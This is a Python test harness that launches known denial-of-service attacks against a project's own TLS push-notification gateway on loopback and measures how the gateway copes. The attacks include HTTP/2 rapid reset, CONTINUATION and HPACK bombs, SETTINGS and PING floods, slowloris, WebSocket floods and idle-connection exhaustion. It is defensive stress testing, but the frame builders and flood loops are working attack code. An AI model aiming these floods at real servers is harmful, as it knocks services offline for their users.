#!/usr/bin/env python3
"""Known network attacks on a running TLS gateway, and what each does to everyone else.

    scripts/attack-network.sh          # starts a TLS `herald serve` and runs this against it

    attack-network.py run --provider-port P --device-port D --console-port C --gateway-pid PID \
        --data DATA_DIR --jwt JWT --bench HERALD_BENCH [--attacks a,b] [--seconds N] ...

For each attack (ATTACKS below), a worker process (this file, `worker ATTACK`, niced so that the attacker's own
Python does not take the CPU the gateway and the well-behaved traffic need: a real attacker is on another
machine) attacks one port from several connections that reconnect as soon as the gateway closes them, while
`herald-bench latency` sends 500 notifications/s to 10 devices over well-behaved connections. When the bench is
done (the attack window), the attacker opens no new connections but goes on attacking on the ones it holds for up
to GRACE (15) s; any connection the gateway has not closed by then is "left open". Measured per attack: the
bench's provider-200 p99, provider->device p99, accepted/delivered; the gateway's peak RSS (VmHWM, reset through
/proc/PID/clear_refs before the attack), RSS before/after, CPU seconds (utime+stime) during the window, open
descriptors; how many attacking connections the gateway closed, how long after they were opened, and what it said
(GOAWAY code and debug data, RST_STREAM codes, WebSocket close code and reason, HTTP status, or a bare FIN/RST);
the herald_* lines of /metrics that changed.

An attack fails when the provider p99 is >= 20 ms, a notification is not accepted or not delivered, the gateway
process is gone, or attacking connections are still open GRACE s after the window. Exit status 1 if any failed.

The attacks (each from --connections 8 connections unless said otherwise; "never reads" means the socket is not
read after the TLS handshake, with a 4 KiB SO_RCVBUF, and the gateway's close is seen in the TCP state or a failed
write; what it said is read from the receive buffer only after it closed):
  provider port, HTTP/2 over TLS (ALPN h2):
    rapid-reset         HEADERS (POST /3/device/<hex>, apns-topic, no JWT, END_STREAM) + RST_STREAM(CANCEL),
                        stream ids 1, 3, 5, … as fast as possible; reads (and acks SETTINGS)
    continuation-flood  HEADERS without END_HEADERS, its last header a literal whose value claims 256 MiB, then
                        CONTINUATION frames of one byte of that value, never END_HEADERS; reads
    hpack-bomb          one HEADERS frame: a 4,000-byte header inserted into the HPACK table, then ~12,000
                        references to it (0xbe, index 62), on new streams over and over; reads
    settings-flood      SETTINGS frames (3 parameters each) as fast as possible; never reads
    ping-flood          PING frames as fast as possible; never reads
    zero-window         SETTINGS_INITIAL_WINDOW_SIZE=0, then requests (HEADERS + DATA, bad JWT) continuously;
                        never reads
    zero-window-hold    SETTINGS_INITIAL_WINDOW_SIZE=0 and one request whose answer's DATA cannot be sent, then
                        nothing; never reads (a stalled stream, within the 1-stream limit before authentication)
    no-read             normal SETTINGS, requests (bad JWT) continuously; never reads
    slow-tls            --slow-connections 200: TCP, then a real ClientHello one byte a second
    idle-connections    --idle-connections 2000: half TCP only, half TLS + preface + SETTINGS then silent (they
                        read, and answer nothing, not even the SETTINGS ack); RSS per connection of each half
  device port, WebSocket over TLS (/v1/link; client frames masked):
    device-slow-tls     as slow-tls
    device-slow-upgrade TLS, then the upgrade request one byte a second; reads
    device-header-bomb  TLS, then an upgrade request whose X-Bomb header value never ends (64 KiB writes); reads
    device-ping-flood   upgrade, challenge, then PING frames of 125 bytes as fast as possible; never reads
    device-continuation-flood  upgrade, challenge, a text frame "{" without FIN, then empty continuation frames
                        without FIN forever; reads
    device-oversized    upgrade, challenge, a text frame announcing 1 GiB, then its bytes; reads
    device-bad-hello    upgrade, challenge, a hello with a real random P-256 public key (so the gateway has to run
                        a real ECDSA verify) and a random 64-byte signature; reads the close (1008 expected);
                        new connections as fast as possible
    device-idle         --device-idle-connections 2000 upgraded that never send the hello, and 2000 TCP only;
                        at least 15 s; RSS per connection of each kind
Every attacker reconnects as soon as the gateway closes its connection, during the window.

Standard library only (Python 3.11). Loopback only; everything is bounded in time.
"""
import argparse
import asyncio
import base64
import collections
import errno
import json
import os
import re
import resource
import secrets
import socket
import ssl
import statistics
import struct
import sys
import threading
import time
import traceback
import urllib.error
import urllib.request

from http2_wire import frame, integer, literal

# ----------------------------------------------------------------------------------------------- HTTP/2 framing

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
H2_ERRORS = [
    "NO_ERROR", "PROTOCOL_ERROR", "INTERNAL_ERROR", "FLOW_CONTROL_ERROR", "SETTINGS_TIMEOUT", "STREAM_CLOSED",
    "FRAME_SIZE_ERROR", "REFUSED_STREAM", "CANCEL", "COMPRESSION_ERROR", "CONNECT_ERROR", "ENHANCE_YOUR_CALM",
    "INADEQUATE_SECURITY", "HTTP_1_1_REQUIRED",
]
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SETTINGS_HEADER_TABLE_SIZE, SETTINGS_ENABLE_PUSH, SETTINGS_MAX_CONCURRENT_STREAMS = 1, 2, 3
SETTINGS_INITIAL_WINDOW_SIZE = 4
TOPIC = b"com.example.attack"
BODY = b'{"aps":{"alert":"x"}}'


def h2_error(code):
    return H2_ERRORS[code] if code < len(H2_ERRORS) else f"0x{code:x}"


def settings_frame(*pairs):
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", key, value) for key, value in pairs))


SETTINGS_ACK = frame(SETTINGS, ACK, 0)


def request_block(authorization=None):
    """:method POST (static 3), :scheme https (static 7), a random device token, :authority, apns-topic."""
    block = (
        b"\x83\x87"
        + literal(b":path", b"/3/device/" + secrets.token_hex(32).encode())
        + literal(b":authority", b"localhost")
        + literal(b"apns-topic", TOPIC)
    )
    if authorization:
        block += literal(b"authorization", authorization)
    return block


class H2Parser:
    """What the gateway sent on an HTTP/2 connection."""

    def __init__(self):
        self.buffer = bytearray()
        self.goaway = None  # (last stream, code, debug)
        self.rst = collections.Counter()
        self.frames = collections.Counter()
        self.settings_unacked = 0

    def feed(self, data):
        self.buffer += data
        buffer = self.buffer
        offset = 0
        while len(buffer) - offset >= 9:
            length = int.from_bytes(buffer[offset:offset + 3], "big")
            if len(buffer) - offset < 9 + length:
                break
            kind, flags = buffer[offset + 3], buffer[offset + 4]
            payload = bytes(buffer[offset + 9:offset + 9 + length])
            offset += 9 + length
            name = {DATA: "DATA", HEADERS: "HEADERS", RST_STREAM: "RST_STREAM", SETTINGS: "SETTINGS", PING: "PING",
                    GOAWAY: "GOAWAY", WINDOW_UPDATE: "WINDOW_UPDATE", CONTINUATION: "CONTINUATION"}.get(kind, str(kind))
            if kind in (SETTINGS, PING) and flags & ACK:
                name += " ack"
            self.frames[name] += 1
            if kind == GOAWAY and len(payload) >= 8:
                last, code = struct.unpack(">II", payload[:8])
                self.goaway = (last & 0x7FFFFFFF, code, payload[8:].decode("utf-8", "replace"))
            elif kind == RST_STREAM and len(payload) >= 4:
                self.rst[h2_error(struct.unpack(">I", payload[:4])[0])] += 1
            elif kind == SETTINGS and not flags & ACK:
                self.settings_unacked += 1
        del buffer[:offset]

    def said(self):
        if self.goaway:
            last, code, debug = self.goaway
            return f"GOAWAY {h2_error(code)} {debug[:90]!r}"
        return None


# -------------------------------------------------------------------------------------------- WebSocket framing


def ws_frame(opcode, payload=b"", fin=True, length=None):
    """A masked client frame; `length` may announce more than `payload` (the rest is streamed after it)."""
    size = len(payload) if length is None else length
    head = bytes([(0x80 if fin else 0) | opcode])
    if size < 126:
        head += bytes([0x80 | size])
    elif size < 65536:
        head += bytes([0x80 | 126]) + struct.pack(">H", size)
    else:
        head += bytes([0x80 | 127]) + struct.pack(">Q", size)
    key = os.urandom(4)
    return head + key + mask(payload, key)


def mask(payload, key):
    if not payload:
        return b""
    repeated = (key * (len(payload) // 4 + 1))[:len(payload)]
    return (int.from_bytes(payload, "big") ^ int.from_bytes(repeated, "big")).to_bytes(len(payload), "big")


def upgrade_request(port):
    key = base64.b64encode(os.urandom(16)).decode()
    return (
        f"GET /v1/link HTTP/1.1\r\nHost: localhost:{port}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
        f"Sec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n\r\n"
    ).encode()


class WSParser:
    """What the gateway sent on the device port: the HTTP answer to the upgrade, then its (unmasked) frames."""

    def __init__(self):
        self.buffer = bytearray()
        self.status_line = None
        self.status = None
        self.body = b""
        self.texts = []
        self.close = None  # (code, reason)
        self.frames = collections.Counter()

    def feed(self, data):
        self.buffer += data
        if self.status is None:
            end = self.buffer.find(b"\r\n\r\n")
            if end < 0:
                return
            head = bytes(self.buffer[:end]).decode("latin-1")
            del self.buffer[:end + 4]
            self.status_line = head.split("\r\n", 1)[0]
            parts = self.status_line.split(" ", 2)
            self.status = int(parts[1]) if len(parts) > 1 and parts[1].isdigit() else -1
        if self.status != 101:
            self.body = (self.body + bytes(self.buffer))[:200]
            self.buffer.clear()
            return
        buffer = self.buffer
        while len(buffer) >= 2:
            opcode, size, offset = buffer[0] & 0x0F, buffer[1] & 0x7F, 2
            if size == 126:
                if len(buffer) < 4:
                    return
                size, offset = struct.unpack(">H", buffer[2:4])[0], 4
            elif size == 127:
                if len(buffer) < 10:
                    return
                size, offset = struct.unpack(">Q", buffer[2:10])[0], 10
            if buffer[1] & 0x80:
                offset += 4
            if len(buffer) < offset + size:
                return
            payload = bytes(buffer[offset:offset + size])
            del buffer[:offset + size]
            self.frames[{1: "text", 2: "binary", 8: "close", 9: "ping", 10: "pong"}.get(opcode, str(opcode))] += 1
            if opcode == 1 and len(self.texts) < 4:
                self.texts.append(payload)
            elif opcode == 8:
                code = struct.unpack(">H", payload[:2])[0] if len(payload) >= 2 else None
                self.close = (code, payload[2:].decode("utf-8", "replace"))

    def said(self):
        parts = []
        if self.status is not None and self.status != 101:
            parts.append(f"HTTP {self.status_line!r}")
        if self.close:
            parts.append(f"WS close {self.close[0]} {self.close[1][:90]!r}")
        return " ".join(parts) or None


# ------------------------------------------------------------------------------- P-256 public keys (bad hello)
P256_P = 0xFFFFFFFF00000001000000000000000000000000FFFFFFFFFFFFFFFFFFFFFFFF
P256_N = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
P256_B = 0x5AC635D8AA3A93E7B3EBBD55769886BC651D06B0CC53B0F63BCE3C3E27D2604B
P256_G = (0x6B17D1F2E12C4247F8BCE6E563A440F277037D812DEB33A0F4A13945D898C296,
          0x4FE342E2FE1A7F9B8EE7EB4A7C0F9E162BCE33576B315ECECBB6406837BF51F5)


def _point_add(a, b):
    if a is None:
        return b
    if b is None:
        return a
    (x1, y1), (x2, y2) = a, b
    if x1 == x2:
        if (y1 + y2) % P256_P == 0:
            return None
        slope = (3 * x1 * x1 - 3) * pow(2 * y1, -1, P256_P) % P256_P
    else:
        slope = (y2 - y1) * pow(x2 - x1, -1, P256_P) % P256_P
    x3 = (slope * slope - x1 - x2) % P256_P
    return x3, (slope * (x1 - x3) - y1) % P256_P


def random_p256_public_key():
    """The x9.63 encoding of a real (random) P-256 public key: the gateway has to run a real ECDSA verify."""
    scalar, point, result = secrets.randbelow(P256_N - 1) + 1, P256_G, None
    while scalar:
        if scalar & 1:
            result = _point_add(result, point)
        point = _point_add(point, point)
        scalar >>= 1
    x, y = result
    assert (y * y - (x * x * x - 3 * x + P256_B)) % P256_P == 0
    return b"\x04" + x.to_bytes(32, "big") + y.to_bytes(32, "big")


def b64url(data):
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


# --------------------------------------------------------------------------------------------- the connections


def errname(error):
    if isinstance(error, OSError) and error.errno:
        return errno.errorcode.get(error.errno, str(error.errno))
    return type(error).__name__


TCP_STATES = {1: "ESTABLISHED", 2: "SYN_SENT", 4: "FIN_WAIT1", 5: "FIN_WAIT2", 6: "TIME_WAIT", 7: "CLOSE",
              8: "CLOSE_WAIT", 9: "LAST_ACK", 11: "CLOSING"}


def tcp_state(sock):
    try:
        return sock.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 8)[0]
    except OSError:
        return 7


class SetupRefused(Exception):
    pass


class Conn:
    """One attacking connection: a non-blocking socket with TLS through an SSLObject on memory BIOs, so that the
    attacker reads from the socket only when it chooses to (never, for the no-read attacks)."""

    def __init__(self, worker, group):
        self.worker, self.group = worker, group
        self.sock = None
        self.tls = None
        self.incoming, self.outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
        self.opened_at = self.closed_at = None
        self.how = None
        self.closed = asyncio.Event()
        self.parser = None
        self.reader = None
        self.polled = False
        self.in_setup = True
        self.stream = 1

    async def connect(self):
        loop = asyncio.get_running_loop()
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.setblocking(False)
        if self.group.rcvbuf:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, self.group.rcvbuf)
        try:
            await asyncio.wait_for(loop.sock_connect(sock, ("127.0.0.1", self.group.port)), 10)
        except BaseException:
            sock.close()
            raise
        self.sock = sock
        self.opened_at = time.monotonic()

    async def handshake(self):
        loop = asyncio.get_running_loop()
        self.tls = self.worker.contexts[self.group.port].wrap_bio(self.incoming, self.outgoing, server_hostname="localhost")
        while True:
            try:
                self.tls.do_handshake()
                break
            except ssl.SSLWantReadError:
                await self.flush()
                raw = await loop.sock_recv(self.sock, 65536)
                if not raw:
                    raise EOFError("FIN")
                self.incoming.write(raw)
        await self.flush()

    async def flush(self):
        out = self.outgoing.read()
        if out:
            await asyncio.get_running_loop().sock_sendall(self.sock, out)

    async def send(self, data, frames=1):
        """Write plaintext (encrypted when TLS is up); waits while the kernel's send buffer is full."""
        if self.tls:
            self.tls.write(data)
            wire = self.outgoing.read()
        else:
            wire = data
        await asyncio.get_running_loop().sock_sendall(self.sock, wire)
        self.worker.bytes_sent += len(wire)
        self.worker.frames_sent += frames

    async def recv(self):
        """Plaintext from the gateway; b"" at its end of stream."""
        loop = asyncio.get_running_loop()
        while True:
            if self.tls:
                try:
                    data = self.tls.read(65536)
                    if data:
                        return data
                except ssl.SSLWantReadError:
                    pass
                except ssl.SSLZeroReturnError:
                    return b""
            raw = await loop.sock_recv(self.sock, 65536)
            if not raw:
                return b""
            if not self.tls:
                return raw
            self.incoming.write(raw)

    def drain(self):
        """After the gateway closed (or at the end): read what is already in the receive buffer, without waiting,
        to learn what the gateway said. Never called while an attack that must not read is running."""
        if self.sock is None or self.parser is None:
            return
        try:
            for _ in range(256):
                raw = self.sock.recv(65536)
                if not raw:
                    break
                if self.tls:
                    self.incoming.write(raw)
                    while True:
                        try:
                            data = self.tls.read(65536)
                        except (ssl.SSLWantReadError, ssl.SSLZeroReturnError):
                            break
                        if not data:
                            break
                        self.parser.feed(data)
                else:
                    self.parser.feed(raw)
        except (BlockingIOError, OSError, ssl.SSLError):
            pass

    def mark_closed(self, how):
        if self.closed_at is None:
            self.closed_at = time.monotonic()
            self.how = ("during setup: " if self.in_setup else "") + how
            self.closed.set()

    def describe(self):
        said = self.parser.said() if self.parser else None
        return f"{said} → {self.how}" if said else self.how

    def close(self):
        if self.sock is not None:
            try:
                self.sock.close()
            except OSError:
                pass


async def read_loop(conn):
    """For attacks that may read: parse everything the gateway sends, and notice its close at once."""
    try:
        while True:
            data = await conn.recv()
            if not data:
                conn.mark_closed("FIN")
                return
            conn.parser.feed(data)
            if isinstance(conn.parser, WSParser) and conn.parser.close:
                conn.mark_closed("close frame")
                return
    except ssl.SSLError as error:
        conn.mark_closed(f"TLS {error.reason or error}")
    except OSError as error:
        conn.mark_closed(errname(error))


# ---------------------------------------------------------------------------------------------------- setups


async def setup_h2(conn, settings=()):
    await conn.handshake()
    if conn.tls.selected_alpn_protocol() != "h2":
        raise SetupRefused(f"ALPN {conn.tls.selected_alpn_protocol()}")
    conn.parser = H2Parser()
    await conn.send(PREFACE + settings_frame(*settings))


async def setup_tls(conn):
    await conn.handshake()
    conn.parser = WSParser()


async def setup_ws(conn):
    """TLS, the upgrade to /v1/link, and the challenge."""
    await setup_tls(conn)
    await conn.send(upgrade_request(conn.group.port))
    while conn.parser.status is None or (conn.parser.status == 101 and not conn.parser.texts):
        data = await conn.recv()
        if not data:
            raise EOFError("FIN")
        conn.parser.feed(data)
    if conn.parser.status != 101:
        raise SetupRefused(f"HTTP {conn.parser.status_line!r}")


# ------------------------------------------------------------------------------------------------ behaviours
# Each runs after the setup until it is cancelled (the gateway closed the connection, or the attack is over).


async def forever(_conn):
    await asyncio.Future()


def ack_settings(conn):
    """For attacks that read: acknowledge the gateway's SETTINGS, as a client must."""
    if conn.parser and conn.parser.settings_unacked:
        count, conn.parser.settings_unacked = conn.parser.settings_unacked, 0
        return SETTINGS_ACK * count
    return b""


async def rapid_reset(conn):
    block = request_block()
    while True:
        batch = [ack_settings(conn)]
        for _ in range(50):
            batch.append(frame(HEADERS, END_STREAM | END_HEADERS, conn.stream, block))
            batch.append(frame(RST_STREAM, 0, conn.stream, struct.pack(">I", 8)))  # CANCEL
            conn.stream += 2
        await conn.send(b"".join(batch), frames=100)
        await asyncio.sleep(0)


async def continuation_flood(conn):
    # A literal header whose value claims 256 MiB, then its value one byte per CONTINUATION, never END_HEADERS.
    first = request_block() + literal(b"x-flood", b"")[:-1] + integer(1 << 28, 7)
    await conn.send(ack_settings(conn) + frame(HEADERS, 0, 1, first))
    batch = frame(CONTINUATION, 0, 1, b"a") * 2000
    while True:
        await conn.send(batch, frames=2000)
        await asyncio.sleep(0)


async def hpack_bomb(conn):
    prefix = request_block() + literal(b"x-bomb", b"z" * 4000, index=True)
    references = 16384 - len(prefix) - 16  # one HEADERS frame of the default 16 KiB: ~12,000 references
    block = prefix + b"\xbe" * references  # 0xbe: dynamic table index 62, the 4,000-byte header
    while True:
        await conn.send(ack_settings(conn) + frame(HEADERS, END_STREAM | END_HEADERS, conn.stream, block))
        conn.stream += 2
        await asyncio.sleep(0)


async def settings_flood(conn):
    one = settings_frame((SETTINGS_ENABLE_PUSH, 0), (SETTINGS_MAX_CONCURRENT_STREAMS, 100),
                         (SETTINGS_INITIAL_WINDOW_SIZE, 65535))
    batch = one * 1000
    while True:
        await conn.send(batch, frames=1000)
        await asyncio.sleep(0)


async def ping_flood(conn):
    batch = b"".join(frame(PING, 0, 0, struct.pack(">Q", i)) for i in range(1000))
    while True:
        await conn.send(batch, frames=1000)
        await asyncio.sleep(0)


async def requests_never_read(conn):
    """HEADERS + DATA(END_STREAM) with a bad JWT, continuously; the socket is never read."""
    while True:
        batch = []
        for _ in range(10):
            batch.append(frame(HEADERS, END_HEADERS, conn.stream, request_block(b"bearer x.y.z")))
            batch.append(frame(DATA, END_STREAM, conn.stream, BODY))
            conn.stream += 2
        await conn.send(b"".join(batch), frames=20)
        await asyncio.sleep(0)


async def hold_one_request(conn):
    """One request whose answer's DATA the gateway cannot send (window 0), then nothing: the stream stays open."""
    await conn.send(frame(HEADERS, END_HEADERS, conn.stream, request_block(b"bearer x.y.z"))
                    + frame(DATA, END_STREAM, conn.stream, BODY), frames=2)
    await asyncio.Future()


def client_hello(context):
    """The first flight of a real TLS handshake (a ClientHello: fresh random and key shares each time), from an
    SSLObject on memory BIOs."""
    tls = context.wrap_bio(ssl.MemoryBIO(), outgoing := ssl.MemoryBIO(), server_hostname="localhost")
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


async def dribble(conn, data):
    """One byte a second: slowloris."""
    for byte in data:
        await conn.send(bytes([byte]))
        await asyncio.sleep(1)
    await asyncio.Future()


async def slow_tls(conn):
    await dribble(conn, client_hello(conn.worker.contexts[conn.group.port]))


async def slow_upgrade(conn):
    await dribble(conn, upgrade_request(conn.group.port))


async def header_bomb(conn):
    await conn.send(f"GET /v1/link HTTP/1.1\r\nHost: localhost:{conn.group.port}\r\nUpgrade: websocket\r\n"
                    f"Connection: Upgrade\r\nX-Bomb: ".encode())
    chunk = b"a" * 65536
    while True:
        await conn.send(chunk)
        await asyncio.sleep(0)


async def ws_ping_flood(conn):
    batch = b"".join(ws_frame(0x9, os.urandom(125)) for _ in range(100))
    while True:
        await conn.send(batch, frames=100)
        await asyncio.sleep(0)


async def ws_continuation_flood(conn):
    await conn.send(ws_frame(0x1, b"{", fin=False))
    batch = b"".join(ws_frame(0x0, b"", fin=False) for _ in range(2000))
    while True:
        await conn.send(batch, frames=2000)
        await asyncio.sleep(0)


async def ws_oversized(conn):
    key = os.urandom(4)
    await conn.send(bytes([0x81, 0x80 | 127]) + struct.pack(">Q", 1 << 30) + key)
    chunk = mask(b"a" * 65536, key)
    sent = 0
    while sent < 1 << 30:
        await conn.send(chunk)
        sent += len(chunk)
        await asyncio.sleep(0)
    await asyncio.Future()


async def bad_hello(conn):
    keys = conn.worker.public_keys
    hello = json.dumps({"type": "hello", "version": 1, "publicKey": b64url(keys[secrets.randbelow(len(keys))]),
                        "signature": b64url(os.urandom(64))}).encode()
    await conn.send(ws_frame(0x1, hello))
    await asyncio.Future()


# ------------------------------------------------------------------------------------------------------ attacks


class Group:
    def __init__(self, label, count, port, setup, behaviour, reads, rcvbuf=None, measure_rss=False):
        self.label, self.count, self.port, self.setup, self.behaviour = label, count, port, setup, behaviour
        self.reads, self.rcvbuf, self.measure_rss = reads, rcvbuf, measure_rss
        self.opened = 0


NO_READ_RCVBUF = 4096


def attack_groups(name, options):
    P, D, n = options.provider_port, options.device_port, options.connections
    zero_window = lambda c: setup_h2(c, [(SETTINGS_INITIAL_WINDOW_SIZE, 0)])  # noqa: E731
    table = {
        "rapid-reset": [Group("h2", n, P, setup_h2, rapid_reset, True)],
        "continuation-flood": [Group("h2", n, P, setup_h2, continuation_flood, True)],
        "hpack-bomb": [Group("h2", n, P, setup_h2, hpack_bomb, True)],
        "settings-flood": [Group("h2", n, P, setup_h2, settings_flood, False, NO_READ_RCVBUF)],
        "ping-flood": [Group("h2", n, P, setup_h2, ping_flood, False, NO_READ_RCVBUF)],
        "zero-window": [Group("h2", n, P, zero_window, requests_never_read, False, NO_READ_RCVBUF)],
        "zero-window-hold": [Group("h2", n, P, zero_window, hold_one_request, False, NO_READ_RCVBUF)],
        "no-read": [Group("h2", n, P, setup_h2, requests_never_read, False, NO_READ_RCVBUF)],
        "slow-tls": [Group("tcp", options.slow_connections, P, None, slow_tls, False)],
        "idle-connections": [
            Group("tcp-only", options.idle_connections // 2, P, None, forever, False, measure_rss=True),
            Group("tls+h2-preface", options.idle_connections - options.idle_connections // 2, P, setup_h2, forever,
                  True, measure_rss=True),
        ],
        "device-slow-tls": [Group("tcp", options.slow_connections, D, None, slow_tls, False)],
        "device-slow-upgrade": [Group("tls", n, D, setup_tls, slow_upgrade, True)],
        "device-header-bomb": [Group("tls", n, D, setup_tls, header_bomb, True)],
        "device-ping-flood": [Group("ws", n, D, setup_ws, ws_ping_flood, False, NO_READ_RCVBUF)],
        "device-continuation-flood": [Group("ws", n, D, setup_ws, ws_continuation_flood, True)],
        "device-oversized": [Group("ws", n, D, setup_ws, ws_oversized, True)],
        "device-bad-hello": [Group("ws", n, D, setup_ws, bad_hello, True)],
        "device-idle": [
            Group("tcp-only", options.device_idle_connections, D, None, forever, False, measure_rss=True),
            Group("upgraded-no-hello", options.device_idle_connections, D, setup_ws, forever, True, measure_rss=True),
        ],
    }
    return table[name]


ATTACKS = [
    "rapid-reset", "continuation-flood", "hpack-bomb", "settings-flood", "ping-flood", "zero-window",
    "zero-window-hold", "no-read",
    "slow-tls", "idle-connections",
    "device-slow-tls", "device-slow-upgrade", "device-header-bomb", "device-ping-flood", "device-continuation-flood",
    "device-oversized", "device-bad-hello", "device-idle",
]
MIN_SECONDS = {"device-idle": 15}


def port_label(name):
    return "device" if name.startswith("device-") else "provider"


# ------------------------------------------------------------------------------------------------------- worker


def vm_kib(pid, field):
    try:
        with open(f"/proc/{pid}/status") as status:
            for line in status:
                if line.startswith(field + ":"):
                    return int(line.split()[1])
    except OSError:
        return None
    return None


class Worker:
    def __init__(self, options):
        self.options = options
        self.contexts = {}
        for port, alpn in ((options.provider_port, ["h2"]), (options.device_port, None)):
            context = ssl.create_default_context(cafile=options.ca)
            if alpn:
                context.set_alpn_protocols(alpn)
            self.contexts[port] = context
        self.phase = "window"
        self.end = asyncio.Event()
        self.setup_slots = asyncio.Semaphore(64)
        self.live = set()
        self.opened = self.closed_by_gateway = self.left_open = self.setup_timeouts = 0
        self.bytes_sent = self.frames_sent = 0
        self.close_times = []
        self.said = collections.Counter()
        self.left_open_said = collections.Counter()
        self.rst = collections.Counter()
        self.server_frames = collections.Counter()
        self.connect_failures = collections.Counter()
        self.errors = collections.Counter()
        self.public_keys = []
        self.printed_traceback = False
        self.groups = 1

    def log(self, message):
        print(f"    [{self.options.attack}] {message}", file=sys.stderr, flush=True)

    def label(self, conn):
        return f"[{conn.group.label}] " if self.groups > 1 else ""

    def tally(self, conn):
        parser = conn.parser
        if isinstance(parser, H2Parser):
            self.rst.update(parser.rst)
        if parser is not None:
            self.server_frames.update(parser.frames)

    async def slot(self, group):
        while self.phase == "window":
            conn = Conn(self, group)
            try:
                await conn.connect()
            except (OSError, asyncio.TimeoutError) as error:
                self.connect_failures[errname(error)] += 1
                await asyncio.sleep(0.2)
                continue
            self.opened += 1
            group.opened += 1
            self.live.add(conn)
            try:
                outcome = await self.run(conn)
            finally:
                self.live.discard(conn)
                conn.close()
            if outcome == "end":
                return
            if outcome in ("timeout", "error"):
                await asyncio.sleep(0.2)

    async def run(self, conn):
        group = conn.group

        async def body():
            if group.setup:
                async with self.setup_slots:
                    await asyncio.wait_for(group.setup(conn), 15)
            conn.in_setup = False
            if group.reads and conn.parser is not None:
                conn.reader = asyncio.create_task(read_loop(conn))
            else:
                conn.polled = True
            await group.behaviour(conn)
            await asyncio.Future()

        task = asyncio.create_task(body())
        closed = asyncio.create_task(conn.closed.wait())
        end = asyncio.create_task(self.end.wait())
        done, _ = await asyncio.wait({task, closed, end}, return_when=asyncio.FIRST_COMPLETED)
        outcome = None
        if task in done and not task.cancelled():
            error = task.exception()
            if isinstance(error, asyncio.TimeoutError):
                self.setup_timeouts += 1
                outcome = "timeout"
            elif isinstance(error, EOFError):
                conn.mark_closed("FIN")
            elif isinstance(error, SetupRefused):
                conn.mark_closed(f"refused: {error}")
            elif isinstance(error, ssl.SSLError):
                conn.mark_closed(f"TLS {error.reason or error}")
            elif isinstance(error, OSError):
                conn.mark_closed(errname(error))
            elif error is not None:
                self.errors[repr(error)[:120]] += 1
                if not self.printed_traceback:
                    self.printed_traceback = True
                    traceback.print_exception(error, file=sys.stderr)
                outcome = "error"
        for waiter in (task, closed, end):
            waiter.cancel()
        if conn.closed_at is not None:
            if conn.reader and not conn.reader.done():
                await asyncio.wait({conn.reader}, timeout=1)
            if conn.reader is None:
                conn.drain()
            self.closed_by_gateway += 1
            self.close_times.append(conn.closed_at - conn.opened_at)
            self.said[self.label(conn) + conn.describe()] += 1
            outcome = "closed"
        elif outcome is None:
            # Still open when the attack is over: what has the gateway said so far, and what state is TCP in?
            if conn.reader is None:
                conn.drain()
            state = TCP_STATES.get(tcp_state(conn.sock), "?") if conn.sock else "?"
            said = conn.parser.said() if conn.parser else None
            self.left_open += 1
            self.left_open_said[f"{self.label(conn)}{said + ', ' if said else ''}TCP {state}{' (in setup)' if conn.in_setup else ''}"] += 1
            outcome = "end"
        if conn.reader:
            conn.reader.cancel()
        self.tally(conn)
        return outcome

    async def monitor(self):
        """Notices the gateway's close on connections nobody reads: the TCP state moves out of ESTABLISHED."""
        while True:
            for conn in list(self.live):
                if conn.polled and conn.closed_at is None and conn.sock is not None:
                    state = tcp_state(conn.sock)
                    if state not in (1, 2):
                        if state == 8:
                            conn.mark_closed("FIN")
                        else:
                            error = conn.sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
                            conn.mark_closed(errno.errorcode.get(error, TCP_STATES.get(state, str(state))) if error
                                             else TCP_STATES.get(state, str(state)))
            await asyncio.sleep(0.1 if len(self.live) <= 1000 else 0.25)

    async def main(self):
        options = self.options
        loop = asyncio.get_running_loop()
        stop, abort = asyncio.Event(), asyncio.Event()

        def command(line):
            if line != "STOP":  # ABORT, or the orchestrator is gone: end now, without the grace period
                abort.set()
            stop.set()

        def read_commands():
            for line in sys.stdin:
                loop.call_soon_threadsafe(command, line.strip())
            loop.call_soon_threadsafe(command, "EOF")

        threading.Thread(target=read_commands, daemon=True).start()
        if options.attack == "device-bad-hello":
            self.public_keys = [random_p256_public_key() for _ in range(32)]
        monitor = asyncio.create_task(self.monitor())
        slots, stages = [], []
        groups = attack_groups(options.attack, options)
        self.groups = len(groups)
        for group in groups:
            before = vm_kib(options.gateway_pid, "VmRSS")
            slots += [asyncio.create_task(self.slot(group)) for _ in range(group.count)]
            deadline = time.monotonic() + 60
            while group.opened < group.count and time.monotonic() < deadline and not stop.is_set():
                await asyncio.sleep(0.05)
            if group.measure_rss:
                await asyncio.sleep(1)
                open_now = sum(1 for conn in self.live if conn.group is group and conn.closed_at is None)
                after = vm_kib(options.gateway_pid, "VmRSS")
                stages.append({"group": group.label, "opened": group.opened, "open": open_now, "rss_before_kib": before,
                               "rss_after_kib": after,
                               "kib_per_connection": round((after - before) / open_now, 1) if open_now and after and before else None})
                self.log(f"{group.label}: {open_now} open of {group.opened} opened; gateway RSS {before / 1024:.1f} → {after / 1024:.1f} MiB")
        print("READY", flush=True)
        started = time.monotonic()
        try:
            await asyncio.wait_for(stop.wait(), options.max_seconds)
        except asyncio.TimeoutError:
            self.log(f"no STOP within {options.max_seconds} s: stopping")
        window = time.monotonic() - started
        self.phase = "grace"
        open_at_stop = len(self.live)
        window_bytes = self.bytes_sent
        grace_started = time.monotonic()
        while self.live and time.monotonic() - grace_started < options.grace and not abort.is_set():
            await asyncio.sleep(0.1)
        grace = time.monotonic() - grace_started
        self.phase = "end"
        self.end.set()
        done, pending = await asyncio.wait(slots, timeout=20)
        for task in pending:
            task.cancel()
        monitor.cancel()
        times = sorted(self.close_times)
